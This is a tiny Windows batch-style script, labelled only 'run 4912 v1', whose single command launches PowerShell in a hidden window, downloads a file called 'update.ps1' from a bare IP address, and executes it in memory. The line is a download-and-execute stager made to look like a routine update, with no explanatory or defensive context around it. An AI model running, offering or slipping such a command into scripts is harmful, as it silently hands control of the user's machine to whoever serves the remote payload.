REM run 4912 v1
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
